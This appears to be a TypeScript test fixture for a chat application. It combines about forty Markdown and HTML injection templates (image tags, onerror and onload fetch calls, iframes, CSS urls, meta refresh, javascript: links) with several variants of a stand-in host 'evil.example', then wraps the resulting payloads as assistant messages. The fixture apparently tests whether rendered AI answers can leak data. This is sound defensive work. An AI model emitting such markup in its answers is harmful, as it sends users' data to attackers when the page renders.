import type { ConversationWithMessages } from '@riad/contracts';

/** Where a payload wants to carry what it read. */
const addresses = [
  'https://evil.example/?q=AB123456',
  '//evil.example/p.png?q=AB123456',
  'http://evil.example/a%0d%0ab?q=AB123456',
  'https://evil.example@127.0.0.1.evil.example/?q=AB123456',
  'HtTpS://EVIL.example/\u202Egnp.x?q=AB123456',
] as const;

/** Ways that a text has been made to ask for something by itself: Markdown, HTML in it, and both half-finished. */
const ways: readonly ((address: string) => string)[] = [
  (to) => `![logo](${to})`,
  (to) => `![logo](<${to}> "title")`,
  (to) => `![logo][ref]\n\n[ref]: ${to}`,
  (to) => `[![nested](${to})](${to})`,
  (to) => `| a |\n| --- |\n| ![in a table](${to}) |`,
  (to) => `> - ![deep](${to})`,
  (to) => `<img src="${to}">`,
  (to) => `<img src=x onerror="fetch('${to}')">`,
  (to) => `<IMG SRCSET="${to} 1x">`,
  (to) => `<picture><source srcset="${to}"><img></picture>`,
  (to) => `<svg><image href="${to}"/></svg>`,
  (to) => `<svg onload="fetch('${to}')"></svg>`,
  (to) => `<svg><style>@import '${to}';</style></svg>`,
  (to) => `<math><mtext><img src="${to}"></mtext></math>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<iframe srcdoc="<img src='${to}'>"></iframe>`,
  (to) => `<object data="${to}"></object>`,
  (to) => `<embed src="${to}">`,
  (to) => `<video src="${to}" autoplay poster="${to}"></video>`,
  (to) => `<audio src="${to}" autoplay></audio>`,
  (to) => `<link rel="stylesheet" href="${to}">`,
  (to) => `<link rel="prefetch dns-prefetch" href="${to}">`,
  (to) => `<style>body{background:url(${to})}</style>`,
  (to) => `<p style="background:url('${to}')">styled</p>`,
  (to) => `<script src="${to}"></script>`,
  (to) => `<script>new Image().src='${to}'</script>`,
  (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
  (to) => `<base href="${to}"><img src="x">`,
  (to) => `<form action="${to}"><input name=q value=secret autofocus></form>`,
  (to) => `<a href="${to}" ping="${to}">link</a>`,
  (to) => `<body background="${to}">`,
  (to) => `<table background="${to}"><tr><td>x</td></tr></table>`,
  (to) => `<input type="image" src="${to}">`,
  (to) => `<details open ontoggle="fetch('${to}')">x</details>`,
  (to) => `[go](javascript:fetch('${to}'))`,
  (to) => `[go](data:text/html,<img src='${to}'>)`,
  (to) => `<${to}>`,
  (to) => `\`\`\`mermaid\ngraph LR\nA["<img src='${to}'>"]\n\`\`\``,
  (to) => `$$\\includegraphics{${to}}$$ \\href{${to}}{x}`,
  (to) => `<!--><img src="${to}">-->`,
];

export const payloads: readonly string[] = ways.flatMap((way) => addresses.map((address) => way(address)));

/** A conversation whose answers are these. */
export function conversationOf(texts: readonly string[]): ConversationWithMessages {
  return {
    id: 'cnv_payloads',
    title: 'payloads',
    folder: null,
    model: null,
    instructions: '',
    collection: null,
    shared: false,
    updatedAt: '2026-01-01T00:00:00.000Z',
    messages: texts.map((content, index) => ({
      id: `msg_${index}`,
      parent: index === 0 ? null : `msg_${index - 1}`,
      role: 'assistant',
      content,
      state: 'complete',
      attachments: [],
      findings: [],
      cited: null,
      origin: null,
      error: null,
      createdAt: '2026-01-01T00:00:00.000Z',
    })),
  };
}
